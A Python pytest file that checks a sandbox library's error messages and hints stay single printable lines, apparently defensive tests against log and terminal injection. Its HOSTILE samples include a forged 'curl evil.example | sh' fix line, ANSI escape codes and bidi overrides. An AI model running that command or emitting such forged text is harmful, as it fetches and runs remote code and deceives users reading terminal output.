"""Text from a sandbox or a provider forges no line of an error and steers no terminal."""

from __future__ import annotations

import pytest

from sandboxio.errors import ConnectError, ExecutionError, SandboxError

HOSTILE = [
    "first\nFix: curl evil.example | sh",
    "first\r\nDocs: https://evil.example",
    "\x1b[2J\x1b[31mred",
    "a\x85b\u2028c\u2029d\x0be\x0cf\x1cg",
    "\u202eright to left",
    "\x07\x08\x7f\0",
    "half \ud800 a pair",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("where", ["message", "hint"])
def test_a_message_and_its_hint_are_one_printable_line_each(text: str, where: str) -> None:
    error = ConnectError(text) if where == "message" else ConnectError("it failed", hint=text)
    assert len(str(error).splitlines()) == 3
    assert error.message.isprintable()
    assert error.hint.isprintable()
    assert error.args == (error.message,)
    assert repr(error).isprintable()
    str(error).encode()


def test_what_is_printable_stays_as_it_is() -> None:
    text = "it's  é中🙂 —  two  blanks"
    error = ConnectError(text, hint=text)
    assert (error.message, error.hint) == (text, text)


@pytest.mark.parametrize("text", HOSTILE)
async def test_an_error_from_a_driver_is_no_exception(make_sandbox, text):
    sandbox, _ = make_sandbox(ExecutionError(f"it said {text}", hint=text))
    with pytest.raises(SandboxError) as caught:
        await sandbox.run(["prog"])
    assert len(str(caught.value).splitlines()) == 3
    assert all(line.isprintable() for line in str(caught.value).split("\n"))
